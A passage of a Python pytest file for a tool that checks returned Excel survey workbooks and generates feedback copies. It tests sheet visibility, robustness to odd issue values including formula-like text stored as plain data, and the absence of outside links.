    assert sorted(p.name for p in folder.iterdir()) == sorted({p.name for p in written})
    assert openpyxl.load_workbook(written[2]).sheetnames[0] == ISSUES_SHEET


def test_hidden_sheet_with_a_problem_is_shown(tmp_path, spec, registry):
    smp = sample(spec, registry, seed=1)
    source = write_return(tmp_path, "r.xlsx", spec, smp)
    wb = openpyxl.load_workbook(source)
    mistake = smp.mistakes[0]
    wb[mistake.sheet].sheet_state = "hidden"
    wb.save(source)
    submission, issues = check(source, spec, registry)
    out = feedback_for_file(source, submission, issues, spec, tmp_path / "fb")
    copy = openpyxl.load_workbook(out)
    assert copy[mistake.sheet].sheet_state == "visible"
    assert copy["_meta"].sheet_state == "hidden"


def test_feedback_bytes_never_raise_on_odd_issues(spec):
    odd = [
        issue("LAYOUT_MERGED", severity=Severity.WARNING, sheet="Không có", cell="D12:E14", context={"ref": "D12"}),
        issue("LAYOUT_STRAY", sheet="Hiện trạng", cell="ZZZZ99", context={"ref": "ZZZZ99", "value": "\x01x"}),
        issue("RULE_REQUIRED", sheet="Hiện trạng", cell="D7", field="khong_co", value="a" * 50_000),
        Issue("R99", Severity.ERROR, context={"msg_vi": "=1+1", "msg_en": "=1+1"}),
    ]
    data = feedback.feedback_bytes(None, Submission(file="x.xlsx"), odd, spec)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    _, rows = listed(wb)
    assert len(rows) == len(odd)
    assert all(c.data_type != "f" for row in rows for c in row)


def test_xlsx_resaved_by_libreoffice_is_copied_not_recreated(tmp_path, spec, registry):
    source = tmp_path / "libreoffice-resaved-SYT.xlsx"
    shutil.copyfile(RETURNED / source.name, source)
    submission, _ = check(source, spec, registry)
    submission.values["tong_so_may_tinh"] = -5  # one figure out of range: a real verdict on a real file
    issues = validate_batch([submission], spec)[0].issues
    out = feedback_for_file(source, submission, issues, spec, tmp_path / "fb")
    wb = openpyxl.load_workbook(out)
    assert "bản sao tệp của đơn vị" in "\n".join(str(wb[ISSUES_SHEET].cell(r, 1).value) for r in range(1, 8))
    ref = layout_for(spec).cells["tong_so_may_tinh"]
    assert wb[ref.sheet][ref.a1].comment is not None
    _assert_no_outside_links(out)
